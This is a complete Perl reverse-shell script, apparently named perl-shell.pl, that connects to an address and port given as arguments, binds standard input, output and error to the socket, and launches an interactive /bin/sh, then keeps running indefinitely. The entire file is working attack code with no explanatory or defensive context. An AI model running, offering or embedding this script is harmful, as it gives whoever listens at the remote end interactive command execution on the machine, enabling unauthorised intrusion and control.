use Socket;
use strict;

# perl-shell.pl ADDRESS PORT
my ($address, $port) = @ARGV;
socket(my $connection, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die "socket: $!";
connect($connection, sockaddr_in($port, inet_aton($address))) or die "connect: $!";
if (fork() == 0) {
  open(STDIN, '<&', $connection);
  open(STDOUT, '>&', $connection);
  open(STDERR, '>&', $connection);
  exec('/bin/sh', '-i');
}
select(undef, undef, undef, 0.5);
$| = 1;
print "ready\n";
sleep 3600 while 1;
